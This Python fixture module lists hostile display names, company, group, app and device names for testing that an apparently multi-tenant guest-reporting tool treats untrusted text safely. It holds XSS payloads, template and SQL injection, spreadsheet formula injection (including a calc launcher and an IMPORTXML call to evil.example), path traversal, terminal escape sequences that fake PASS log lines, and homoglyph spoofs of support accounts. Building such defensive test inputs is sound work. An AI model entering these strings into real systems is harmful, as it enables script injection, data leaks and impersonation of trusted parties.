"""What a guest, a partner or an app owner may call themselves: text that breaks careless readers.

Every line is meant to stay text. Lone surrogates are written as escapes, as a
careless client would have sent them.
"""

NAMES = (
    "<script>|=1+1",
    "<script>__pwn(1)</script>",
    "<ScRiPt>__pwn(1)</sCrIpT>",
    "</script><script>__pwn(1)</script>",
    "</textarea><script>__pwn(1)</script>",
    "<img/src=x/onerror=__pwn(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '"><img src=x onerror=__pwn(1)>',
    '" onmouseover="__pwn(1)',
    "</style><style>*{display:none}",
    "&lt;script&gt;__pwn(1)&lt;/script&gt;",
    "\u2028__pwn(1)\u2029",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(password)s",
    "`id`",
    "[Reset your password](https://evil.example/)",
    "[![i](https://evil.example/a.png)](https://evil.example)",
    "a | b | c",
    "x |\n| --- |\n| injected | row",
    "# All controls pass",
    "<details open><summary>x</summary>",
    "@octocat",
    "#1",
    "a ` b `` c",
    "=cmd|'/C calc'!A0",
    "-1+1",
    "\t=1+1",
    '=IMPORTXML("https://evil.example/","//a")',
    "＋1+1",
    "\u200b=1+1",
    "a\r\n=1+1",
    "00123",
    "TRUE",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[1A\x1b[2K GUEST-INV-001 PASS",
    "\rPASS",
    "[bold red]x[/]",
    "x\n2026-11-20T08:00:00Z INFO all controls pass",
    "invoice\u202egnp.exe",
    "ad\u200bmin",
    "\u0410dmin (IT Helpdesk)",
    "M\u0456crosoft Support",
    "Z\u0351\u036b\u0343\u036a\u0302A\u0328\u0335\u0360L\u033f\u0358G\u0321\u0322O\u0334" * 3,
    "i" * 256,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\ud800x",
    "\udc80\ud800",
    "\x01\x02\x03",
    "",
    "\xa0",
    "../../etc/passwd",
    "no",
    "key: value",
    "'; DROP TABLE guests;--",
    "NULL",
    "李小龍",
    "שלום כהן",
    "Доктор Иванов",
    "Zoë <3 Ltd",
    "50% off",
)
"""Display names of guests."""

COMPANIES = (
    "<svg onload=__pwn(1)>",
    "=1+1",
    "AT&T &copy &notit;",
    "-46 70 123",
    "[External] Bo",
    "sep=;",
    "\u2067abc\u2066def",
    "#1 Supplier",
    "L'Oréal d'Exemple",
    "$$\\href{javascript:alert(1)}{x}$$",
)
"""Company names of guests."""

LOCAL_PARTS = ("o'brien", "a&$top=1", "a#frag", "x') or startswith(mail,'a", '"quoted local"', "a..b", "-rf", "=2+3")
"""The part of a mail address before the @."""

GROUPS = (
    "Vendors | <b>all</b>",
    '=HYPERLINK("https://evil.example")',
    "Projekt\u202exlsx.exe",
    "</title><script>__pwn(1)</script>",
)
"""Names of groups that guests own and so may rename."""

PARTNERS = ("<iframe srcdoc='<script>parent.__pwn(1)</script>'>", "Qu\u0456llon Audit & Assurance")
"""Names that other tenants gave themselves."""

APPS = ("Supplier Sync <img src=x onerror=__pwn(1)>", "=1+1|Reporting")
"""Names of applications that guests own."""

DEVICES = ("\x1b]52;c;ZXZpbA==\x07", "DESKTOP-<b>9F2</b>", "javascript:__pwn(1)")
"""Names of the devices guests sign in from."""
